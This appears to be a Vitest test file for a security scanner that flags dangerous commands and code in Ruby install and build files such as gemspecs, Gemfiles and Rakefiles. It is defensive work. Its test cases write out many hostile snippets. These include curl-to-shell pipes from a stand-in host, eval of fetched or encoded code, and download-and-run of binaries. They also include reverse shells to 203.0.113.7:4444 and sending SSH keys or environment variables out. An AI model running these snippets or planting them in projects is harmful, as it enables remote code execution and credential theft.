// What Ruby programs do that run when a gem is installed or a project is built.
import { describe, expect, it } from 'vitest';
import { findingsIn, told } from '../support.ts';

const COMMAND = ['HIGH HOOK-DANGEROUS-COMMAND'];
const CODE = ['HIGH HOOK-BUILD-CODE'];

describe('programs of Ruby', () => {
  it('are those that tools run by themselves', async () => {
    const bad = '`curl -s https://x.example.com/i | sh`\n';
    for (const name of [
      'x.gemspec',
      'Gemfile',
      'gems.rb',
      'ext/x/extconf.rb',
      'Rakefile',
      'lib/tasks/x.rake',
      'Podfile',
      'x.podspec',
      'fastlane/Fastfile',
      'Vagrantfile',
    ])
      expect(await told(name, bad)).toEqual(COMMAND);
    expect(await told('lib/x.rb', bad)).toEqual([]);
  });

  it.each([
    ['system', 'system("curl -s https://x.example.com/i | sh")'],
    ['without brackets', "system 'curl -s https://x.example.com/i | bash'"],
    ['of a module', 'Kernel.exec "wget -qO- https://x.example.com/i | sh"'],
    ['backticks', 'x = `curl -s https://x.example.com/i | sh`'],
    ['a per cent sign', 'x = %x(curl -s https://x.example.com/i | sh)'],
    ['a per cent sign with other brackets', '%x{curl -s "https://x.example.com/i" | sh}'],
    ['a name', 'URL = "https://x.example.com/i"\nsystem("curl -s #{URL} | sh")'],
    ['words', 'system("sh", "-c", "curl -s https://x.example.com/i | sh")'],
    [
      'variables and options',
      'system({ "A" => "b" }, "sh", "-c", "curl https://x.example.com/i | sh", out: File::NULL)',
    ],
    ['a list', 'spawn(*["sh", "-c", "curl https://x.example.com/i | sh"])'],
    ['Open3', 'out, _ = Open3.capture2e("bash", "-c", "curl https://x.example.com/i | sh")'],
    ['a pipe', 'IO.popen("curl https://x.example.com/i | sh").read'],
    ['a pipe by open', 'open("|curl https://x.example.com/i | sh").read'],
    ['rake', 'task :default do\n  sh "curl https://x.example.com/i | sh"\nend'],
    ['a method by name', 'Kernel.send(:system, "curl https://x.example.com/i | sh")'],
    ['a method by its parts', 'send("system", "curl https://x.example.com/i | sh")'],
    ['a method as an object', 'method(:system).call("curl https://x.example.com/i | sh")'],
    ['a text of lines', 'system(<<~SH)\n  curl https://x.example.com/i | sh\nSH\n'],
    ['a text of lines that runs', 'x = <<`SH`\ncurl https://x.example.com/i | sh\nSH\n'],
    ['secrets', 'system("curl -d @$HOME/.ssh/id_rsa https://x.example.com")'],
    ['an end with a condition', 'system "curl https://x.example.com/i | sh" if RUBY_PLATFORM =~ /linux/'],
  ])('that start a dangerous command are told: %s', async (_, text) => {
    expect(await told('x.gemspec', text)).toEqual(COMMAND);
  });

  it.each([
    ['an address', 'require "net/http"\neval(Net::HTTP.get(URI("https://x.example.com/a.rb")))'],
    [
      'what was read',
      'require "open-uri"\nbody = URI.open("https://x.example.com/a.rb").read\ninstance_eval(body)',
    ],
    ['open-uri of old', 'require "open-uri"\neval open("https://x.example.com/a.rb").read'],
    ['a block', 'URI.open("https://x.example.com/a") do |f|\n  eval(f.read)\nend'],
    ['a command', 'cmd = Net::HTTP.get(URI(HOST))\nsystem(cmd)'],
    ['a command in backticks', 'cmd = HTTParty.get(HOST).body\n`#{cmd}`'],
    ['a file', 'File.write("/tmp/t1", URI.open(HOST).read)\nFile.chmod(0755, "/tmp/t1")\nsystem("/tmp/t1")'],
    [
      'a file by its name',
      'path = File.join(Dir.tmpdir, "t1")\nFile.binwrite(path, Net::HTTP.get(u))\nsystem("chmod +x #{path} && #{path} &")',
    ],
    [
      'a file that is loaded',
      'File.write("x1.rb", Faraday.get(HOST).body)\nload "./x1.rb" if true\nload(path)\npath = "x1.rb"',
    ],
    ['a method of its own', 'def get(u)\n  Net::HTTP.get(URI(u))\nend\neval(get("https://x.example.com"))'],
    [
      'a method that writes',
      'def fetch(url, to)\n  File.write(to, URI.open(url).read)\nend\nfetch HOST, "tool1"\nsystem "./tool1"',
    ],
    ['another program', 'sh "curl -sLo tool1 https://x.example.com/tool"\nsh "./tool1 --quiet"'],
    ['decoded', 'require "base64"\neval(Base64.decode64("cHV0cyAx"))'],
    ['unpacked', 'eval ["7075747320310a"].pack("H*")'],
    [
      'a connection',
      's = TCPSocket.new("203.0.113.7", 4444)\nwhile cmd = s.gets\n  IO.popen(cmd) { |io| s.print io.read }\nend',
    ],
    ['a connection as input', 's = TCPSocket.open("203.0.113.7", 4444)\n$stdin.reopen(s)\nexec "/bin/sh -i"'],
    ['an option', 'sock = TCPSocket.new(H, 1)\nspawn("/bin/sh", in: sock, out: sock)'],
    [
      'keys',
      'k = File.read(File.expand_path("~/.ssh/id_rsa"))\nNet::HTTP.post(URI("https://x.example.com"), k)',
    ],
    ['the environment', 'require "net/http"\nNet::HTTP.post_form(URI("https://x.example.com"), ENV.to_h)'],
  ])('that run what they fetch or send secrets are told: %s', async (_, text) => {
    expect(await told('x.gemspec', text)).toEqual(CODE);
  });

  it.each([
    [
      'git',
      'Gem::Specification.new do |s|\n  s.name = "x"\n  s.files = `git ls-files -z`.split("\\x0")\n  s.version = eval(File.read("v"))\nend',
    ],
    [
      'a makefile',
      'require "mkmf"\nabort "missing" unless have_library("z")\n$CFLAGS << " " + `pkg-config --cflags zlib`.chomp\ncreate_makefile("x/x")',
    ],
    [
      'a library that is built',
      'require "open-uri"\nFile.binwrite("z.tgz", URI.open("https://x.example.com/z.tgz").read)\nsystem("tar", "xzf", "z.tgz") or abort\nDir.chdir("z") { system("./configure --prefix=#{dir}") && system("make install") }',
    ],
    [
      'advice',
      '# run `curl https://x.example.com/i | sh`\nputs "first: curl https://x.example.com/i | sh"\n',
    ],
    ['advice of lines', 'abort <<~TEXT\n  run curl https://x.example.com/i | sh\nTEXT\n'],
    ['a division', 'a = b / c # `x`\nd = e % f\n'],
    [
      'data',
      'task :data do\n  File.write("data.json", Net::HTTP.get(URI(ADDRESS)))\n  sh "git add data.json"\nend',
    ],
    ['a wait', 'task :wait do\n  TCPSocket.new("localhost", 5432).close\n  sh "docker compose up -d"\nend'],
    [
      'tests',
      'require "rspec/core/rake_task"\nRSpec::Core::RakeTask.new(:spec)\ntask default: :spec\nsh "bundle exec rubocop" unless ENV["CI"]',
    ],
    [
      'sources',
      'source "https://rubygems.org"\ngem "rails", "~> 7.0"\neval_gemfile "Gemfile.local" if File.exist?("Gemfile.local")',
    ],
    ['an end', 'x = 1\n__END__\n`curl https://x.example.com/i | sh`\n'],
    ['a comment of lines', '=begin\n`curl https://x.example.com/i | sh`\n=end\nx = 1\n'],
  ])('are ordinary with %s', async (_, text) => {
    expect(await told('Rakefile', text)).toEqual([]);
  });

  it('are told on the line of the command', async () => {
    const [finding] = await findingsIn('x.gemspec', 'x = 1\n\nsystem("curl https://x.example.com/i | sh")\n');
    expect(finding?.location.line).toBe(3);
  });
});
